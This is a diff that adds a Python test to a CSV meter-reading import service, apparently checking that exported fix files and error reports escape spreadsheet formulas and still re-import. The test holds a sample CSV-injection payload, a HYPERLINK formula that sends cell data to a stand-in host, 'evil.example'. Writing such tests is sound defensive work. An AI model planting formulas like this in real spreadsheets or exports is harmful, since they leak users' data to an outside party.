@@ -122,6 +122,36 @@ def test_the_fix_file_holds_only_the_failed_rows_and_imports_again_as_a_normal_i
     assert ("1900000000002", "hh#2025-11-01T01:30Z") in readings
 
 
+def test_the_fix_file_header_is_escaped_for_spreadsheets_and_still_imports_again(stack):
+    # A header cell a spreadsheet would run, and a unit column whose name starts with a minus.
+    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"open")'
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(
+        [
+            ["MPAN", "ReadDateTime", "ReadValue", "-Unit", formula],
+            ["1900000000001", "2025-11-01 00:00", "1.5", "kWh", "note"],
+            ["1900000000001", "2025-11-01 00:30", "x", "kWh", "note"],  # fails: not a number
+        ]
+    )
+    job, _ = import_csv(stack, buffer.getvalue().encode(), throttle="small")
+    assert (job["status"], job["imported_rows"], job["failed_rows"]) == ("completed", 1, 1)
+    links = report_links(job["job_id"])["json"]
+
+    fix = download(stack, links["fix_url"])
+    escaped = ["MPAN", "ReadDateTime", "ReadValue", "'-Unit", "'" + formula]
+    assert fix[0] == escaped  # as in the error report: one escaping for both files
+    assert download(stack, links["errors_url"])[0][4:] == escaped
+
+    # The person corrects the value and imports the fix file as it came.
+    fix[1][2] = "2.25"
+    buffer = io.StringIO()
+    csv.writer(buffer).writerows(fix)
+    again, _ = import_csv(stack, buffer.getvalue().encode(), filename="readings-fix.csv", throttle="small")
+
+    assert (again["status"], again["imported_rows"], again["failed_rows"]) == ("completed", 1, 0)
+    assert readings_of(stack.readings_table)[("1900000000001", "hh#2025-11-01T00:30Z")] == ("2.25", False)
+
+
 def test_the_report_is_refused_while_the_job_runs_and_is_empty_when_nothing_failed(stack):
     job_id = post_csv(b"MPAN,Date,Reading\n1,2025-11-01,4\n")["json"]["job_id"]
     assert report_links(job_id)["statusCode"] == 409
